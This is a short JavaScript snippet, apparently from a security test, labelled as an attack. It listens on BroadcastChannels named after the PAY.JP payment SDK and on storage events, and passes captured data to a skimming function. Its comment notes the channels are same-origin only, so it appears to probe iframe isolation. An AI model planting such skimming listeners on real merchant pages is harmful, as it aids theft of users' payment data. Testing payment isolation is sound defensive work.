// Attack: listen on BroadcastChannels under every name the SDK might use, and on storage events,
// before the SDK loads. These are same-origin only: the payment origin's frames are not on ours.
(function () {
  ['payjp', 'payjp-wasm', 'payjp-peer', 'payjp-card', 'payjp-controller', 'payjp-frames'].forEach(function (name) {
    var c = new BroadcastChannel(name);
    c.onmessage = function (e) { window.__skim('broadcast ' + name, e.data); };
  });
  window.addEventListener('storage', function (e) { window.__skim('storage', e.key + '=' + e.newValue); });
})();
